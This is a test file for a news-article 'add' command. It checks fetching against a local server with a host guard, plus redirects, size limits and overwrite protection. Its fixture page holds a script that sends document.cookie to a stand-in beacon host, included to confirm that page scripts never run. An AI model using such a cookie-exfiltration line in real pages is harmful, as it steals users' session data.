/**
 * `npm run add` against pages served by a local HTTP server on 127.0.0.1, started here. Every fetch goes
 * through a guard that refuses any other host and records each one, so the tests prove that nothing is
 * fetched from anywhere else (the pages link an image and a script on other hosts).
 */
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { readStoryDir } from '../io.ts';
import { buildStory } from '../run.ts';
import { addArticles, type AddResult } from './addArticles.ts';
import { articleFileName } from './articleName.ts';
import { MAX_PAGE_BYTES } from './fetchPage.ts';

const BODY = `
  <article>
    <h1>Council approves new pedestrian bridge after long debate</h1>
    <p>The Riverside city council on Tuesday approved a new pedestrian bridge over the Kell river, ending a debate that ran for three years and split the council down the middle.</p>
    <p>The bridge will link the old market to the rail station, and construction is due to start in the spring, the mayor, Ana Ruiz, told reporters after the vote.</p>
    <p>Opponents said the cost, put at 14 million dollars, would be better spent on repairing roads, and vowed to take the matter to the voters at the next election.</p>
    <p>Council member Tom Hale, who voted against the plan, said on Wednesday that he would not try to block it any further now that the vote had been taken.</p>
  </article>`;

/** A page with every kind of metadata, a script that must never run, and resources on other hosts. */
const FULL = `<!doctype html><html><head>
  <title>Council approves bridge | Riverside Gazette</title>
  <meta property="og:site_name" content="Riverside Gazette">
  <meta property="og:title" content="Council approves new bridge">
  <meta property="article:published_time" content="2024-03-05T18:20:00-05:00">
  <meta name="author" content="Lena Park">
  <script type="application/ld+json">{"@context":"https://schema.org","@graph":[
    {"@type":"Organization","@id":"#org","name":"Riverside Gazette"},
    {"@type":"NewsArticle","headline":"Council approves new pedestrian bridge","datePublished":"2024-03-05T18:20:00-05:00",
     "author":[{"@type":"Person","name":"Lena Park"},{"@type":"Person","name":"Omar Haddad"}],"publisher":{"@id":"#org"}}]}</script>
  <script src="http://tracker.example.invalid/t.js"></script>
  <script>document.title = "__pwned"; fetch("http://beacon.example.invalid/" + document.cookie);</script>
</head><body><img src="http://images.example.invalid/photo.jpg" alt="">${BODY}</body></html>`;

/** The same story with no metadata at all: no <title>, no meta tags. */
const PLAIN = `<!doctype html><html><body>${BODY.replace('Riverside city council', 'city council')}</body></html>`;

/** A page whose text only its scripts would write. */
const SCRIPTED = '<!doctype html><html><head><title>App</title></head><body><div id="root"></div><script>document.getElementById("root").textContent = "Hello"</script></body></html>';

let server: Server;
let base: string;
/** Bytes the server wrote for /huge before the client hung up. */
let hugeSent = 0;
const hosts: string[] = [];

function route(req: IncomingMessage, res: ServerResponse): void {
  const path = req.url ?? '/';
  const html = (body: string) => { res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }); res.end(body); };
  const redirect = (to: string, status = 302) => { res.writeHead(status, { location: to }); res.end(); };
  if (path === '/news/2024/03/05/bridge-vote.html') return html(FULL);
  if (path === '/plain') return html(PLAIN);
  if (path === '/scripted') return html(SCRIPTED);
  if (path === '/moved') return redirect('/news/2024/03/05/bridge-vote.html', 301);
  if (path === '/moved-relative') return redirect('plain');
  if (path === '/loop-a') return redirect('/loop-b');
  if (path === '/loop-b') return redirect('/loop-a');
  const chain = /^\/chain\/(\d+)$/.exec(path);
  if (chain) return Number(chain[1]) >= 9 ? html(PLAIN) : redirect(`/chain/${Number(chain[1]) + 1}`);
  if (path === '/gone') { res.writeHead(404, { 'content-type': 'text/html' }); res.end('<h1>Not found</h1>'); return; }
  if (path === '/broken') { res.writeHead(503, { 'content-type': 'text/html' }); res.end('<h1>Down</h1>'); return; }
  if (path === '/photo.png') {
    res.writeHead(200, { 'content-type': 'image/png' });
    res.end(Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'));
    return;
  }
  if (path === '/data.json') { res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"a":1}'); return; }
  if (path === '/declared-huge') {
    // The header alone is enough to refuse: the body is never read.
    res.writeHead(200, { 'content-type': 'text/html', 'content-length': String(MAX_PAGE_BYTES + 1) });
    res.write('<html>');
    return;
  }
  if (path === '/huge') {
    // No Content-Length: the limit can only be enforced while the body streams in. The server would send
    // 64 MB; the client must hang up soon after 5 MB.
    res.writeHead(200, { 'content-type': 'text/html' });
    const chunk = Buffer.alloc(64 * 1024, 'a');
    hugeSent = 0;
    const pump = () => {
      while (hugeSent < 64 * 1024 * 1024 && !res.destroyed) {
        hugeSent += chunk.length;
        if (!res.write(chunk)) return void res.once('drain', pump);
      }
      res.end();
    };
    res.on('close', () => undefined);
    pump();
    return;
  }
  res.writeHead(404);
  res.end();
}

const guardedFetch: typeof fetch = (input, init) => {
  const url = new URL(input instanceof Request ? input.url : String(input));
  hosts.push(url.host);
  if (url.hostname !== '127.0.0.1') return Promise.reject(new Error(`the test fetched ${url.href}`));
  return fetch(input, init);
};

let dir: string;
const add = (urls: string[], replace = false) => addArticles(dir, urls, { fetch: guardedFetch, replace });
const one = async (url: string): Promise<AddResult> => (await add([url])).results[0]!;
const failure = (r: AddResult) => (r.ok ? `unexpected success: ${r.status}` : r.message);

beforeAll(async () => {
  server = createServer(route);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  expect(hosts.length).toBeGreaterThan(0);
  expect(new Set(hosts)).toEqual(new Set([new URL(base).host]));
});
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'dateline-add-'));
  return () => rmSync(dir, { recursive: true, force: true });
});

describe('npm run add', () => {
  it('keeps the page as fetched and records its metadata in story.json', async () => {
    const url = `${base}/news/2024/03/05/bridge-vote.html`;
    const r = await one(url);
    expect(r).toMatchObject({ ok: true, status: 'added', file: articleFileName(url) });
    const file = articleFileName(url);
    expect(readFileSync(join(dir, file), 'utf8')).toBe(FULL);
    const story = JSON.parse(readFileSync(join(dir, 'story.json'), 'utf8'));
    expect(story.articles[file]).toEqual({
      url,
      publisher: 'Riverside Gazette',
      title: 'Council approves new pedestrian bridge',
      byline: 'Lena Park and Omar Haddad',
      published: '2024-03-05T18:20:00-05:00',
    });
  });

  it('builds the story folder with the fetched article and its metadata, and nothing of the page ran', async () => {
    const url = `${base}/news/2024/03/05/bridge-vote.html`;
    await add([url, `${base}/plain`]);
    const story = buildStory(readStoryDir(dir));
    const article = story.articles.find((a) => a.file === articleFileName(url))!;
    expect(article).toMatchObject({
      title: 'Council approves new pedestrian bridge',
      publisher: 'Riverside Gazette',
      byline: 'Lena Park and Omar Haddad',
      url,
    });
    expect(article.published).toMatchObject({ value: '2024-03-05', source: 'stated' });
    expect(article.text).toContain('approved a new pedestrian bridge over the Kell river');
    expect(JSON.stringify(story)).not.toMatch(/__pwned|beacon|tracker/);
    expect(story.events.length).toBeGreaterThan(0);
  });

  it('adds a page with no metadata: its address and the headline reader mode finds, and no words of it become the publisher', async () => {
    const r = await one(`${base}/plain`);
    expect(r).toMatchObject({ ok: true, status: 'added', shown: { publisher: null, published: null, byline: null } });
    const story = JSON.parse(readFileSync(join(dir, 'story.json'), 'utf8'));
    expect(Object.values(story.articles)).toEqual([{ url: `${base}/plain`, title: 'Council approves new pedestrian bridge after long debate' }]);
    const built = buildStory(readStoryDir(dir));
    expect(built.articles[0]!.publisher).toBeNull();
    expect(built.articles[0]!.url).toBe(`${base}/plain`);
  });

  it('follows a redirect and records where the page was found', async () => {
    const r = await one(`${base}/moved`);
    expect(r).toMatchObject({ ok: true, status: 'added', finalUrl: `${base}/news/2024/03/05/bridge-vote.html`, redirects: [`${base}/news/2024/03/05/bridge-vote.html`] });
    expect(await one(`${base}/moved-relative`)).toMatchObject({ ok: true, finalUrl: `${base}/plain` });
  });

  it('says so on a redirect loop and when there are too many redirects', async () => {
    expect(failure(await one(`${base}/loop-a`))).toBe(`redirect loop: ${base}/loop-a -> ${base}/loop-b -> ${base}/loop-a`);
    expect(failure(await one(`${base}/chain/0`))).toBe(`more than 5 redirects (the last went to ${base}/chain/6); not followed further`);
  });

  it('gives one clear line for a 404 and a 503', async () => {
    expect(failure(await one(`${base}/gone`))).toBe('HTTP 404 Not Found');
    expect(failure(await one(`${base}/broken`))).toBe('HTTP 503 Service Unavailable');
  });

  it('refuses what is not an HTML page', async () => {
    expect(failure(await one(`${base}/photo.png`))).toBe('not an HTML page (Content-Type image/png)');
    expect(failure(await one(`${base}/data.json`))).toBe('not an HTML page (Content-Type application/json)');
    expect(failure(await one('ftp://127.0.0.1/x.html'))).toBe('only http and https pages are added, not ftp:');
    expect(failure(await one('not a url'))).toBe('not a web address (expected http:// or https://)');
  });

  it('refuses an oversized page: by its declared length, or while it streams in', async () => {
    expect(failure(await one(`${base}/declared-huge`))).toBe('the page is 5.0 MB, over the 5.0 MB limit');
    expect(failure(await one(`${base}/huge`))).toMatch(/^the page is over the 5\.0 MB limit; stopped reading at 5\.\d MB$/);
    // The client hung up: the server never got to send its 64 MB.
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(hugeSent).toBeLessThan(32 * 1024 * 1024);
  });

  it('refuses a page the build would skip, with the build’s reason', async () => {
    expect(failure(await one(`${base}/scripted`))).toMatch(/no article text found.*not added/);
  });

  it('keeps going after a failed URL, and writes nothing for it', async () => {
    const { results } = await add([`${base}/gone`, `${base}/plain`, `${base}/photo.png`]);
    expect(results.map((r) => r.ok)).toEqual([false, true, false]);
    expect(readdirSync(dir).sort()).toEqual([articleFileName(`${base}/plain`), 'story.json'].sort());
  });

  it('never overwrites a different article silently; adding the same page again changes nothing', async () => {
    const url = `${base}/plain`;
    const file = articleFileName(url);
    await one(url);
    expect(await one(url)).toMatchObject({ ok: true, status: 'unchanged' });
    writeFileSync(join(dir, file), '<html><body><p>An older version of the page.</p></body></html>');
    expect(failure(await one(url))).toBe(`${file} is already in the story and the page has changed since; kept the existing file (--replace overwrites it)`);
    expect(readFileSync(join(dir, file), 'utf8')).toContain('older version');
    expect((await add([url], true)).results[0]).toMatchObject({ ok: true, status: 'replaced' });
    expect(readFileSync(join(dir, file), 'utf8')).toBe(PLAIN);
  });

  it('keeps an editor’s correction in story.json and the rest of the file', async () => {
    const url = `${base}/news/2024/03/05/bridge-vote.html`;
    const file = articleFileName(url);
    writeFileSync(join(dir, 'story.json'), JSON.stringify({ title: 'The bridge', custom: [1], articles: { [file]: { publisher: 'The Riverside Gazette (print)' } } }));
    const r = await one(url);
    expect(r).toMatchObject({ ok: true, shown: { publisher: 'The Riverside Gazette (print)' } });
    const story = JSON.parse(readFileSync(join(dir, 'story.json'), 'utf8'));
    expect(story).toMatchObject({ title: 'The bridge', custom: [1] });
    expect(story.articles[file]).toMatchObject({ publisher: 'The Riverside Gazette (print)', title: 'Council approves new pedestrian bridge', url });
  });

  it('makes a new story’s folder with its first article, and none when every URL fails', async () => {
    const never = join(dir, 'never-made');
    expect(await addArticles(never, [`${base}/photo.png`, `${base}/gone`], { fetch: guardedFetch })).toMatchObject({ problem: null, createdFolder: false });
    expect(existsSync(never)).toBe(false);
    const fresh = join(dir, 'fresh');
    expect(await addArticles(fresh, [`${base}/gone`, `${base}/plain`], { fetch: guardedFetch })).toMatchObject({ problem: null, createdFolder: true });
    expect(readdirSync(fresh).sort()).toEqual([articleFileName(`${base}/plain`), 'story.json'].sort());
  });

  it('names the story.json that cannot be read, and fetches nothing', async () => {
    writeFileSync(join(dir, 'story.json'), '{ not json');
    const before = hosts.length;
    const report = await add([`${base}/plain`]);
    expect(report.problem).toMatch(/story\.json: not valid JSON .*; fix it before adding articles$/);
    expect(hosts.length).toBe(before);
  });

  it('names files from the address: deterministic, readable, tracking parameters ignored', () => {
    const a = articleFileName('https://www.reuters.com/article/us-mexico-usa-idUSKBN1620AN?utm_source=twitter#top');
    expect(a).toMatch(/^reuters-com-us-mexico-usa-iduskbn1620an-[0-9a-f]{8}\.html$/);
    expect(articleFileName('https://www.reuters.com/article/us-mexico-usa-idUSKBN1620AN')).toBe(a);
    expect(articleFileName('https://www.reuters.com/article/other/us-mexico-usa-idUSKBN1620AN')).not.toBe(a);
    expect(articleFileName('https://example.com/')).toMatch(/^example-com-index-[0-9a-f]{8}\.html$/);
  });
});

describe('the add command line', () => {
  const run = (args: string[]) => new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    // From the repository root, where node finds tsx; the story folder is an absolute temporary path.
    execFile(process.execPath, ['--import', 'tsx', join(import.meta.dirname, 'cli.ts'), ...args], { cwd: join(import.meta.dirname, '../../..') }, (error, stdout, stderr) => {
      resolve({ code: error ? (typeof error.code === 'number' ? error.code : 1) : 0, stdout, stderr });
    });
  });

  it('prints one line per page, one line per failure naming the URL, and exits 1 when any failed', async () => {
    const story = join(dir, 'new-story');
    const { code, stdout, stderr } = await run([story, `${base}/news/2024/03/05/bridge-vote.html`, `${base}/gone`]);
    expect(code).toBe(1);
    expect(stdout).toMatch(/^added 127-0-0-1-bridge-vote-[0-9a-f]{8}\.html: "Council approves new pedestrian bridge" · Riverside Gazette · 2024-03-05, from http:\/\/127\.0\.0\.1:\d+\/news\/2024\/03\/05\/bridge-vote\.html\n$/);
    expect(stderr).toBe(`created story folder ${story}\nadd: ${base}/gone: HTTP 404 Not Found\nadd: 1 of 2 pages failed\n`);
    expect(existsSync(join(story, 'story.json'))).toBe(true);
  }, 60_000);

  it('has --help, and a bad command line is one line and exit 2', async () => {
    const help = await run(['--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/^usage: npm run add -- <storyDir> <url>\.\.\. \[--replace\]\n/);
    const bad = await run([dir]);
    expect(bad).toMatchObject({ code: 2, stdout: '', stderr: 'add: no URL given\nusage: npm run add -- <storyDir> <url>... [--replace]\n' });
    expect((await run([dir, `${base}/plain`, '--force'])).stderr).toMatch(/^add: unknown option --force\n/);
  }, 60_000);
});
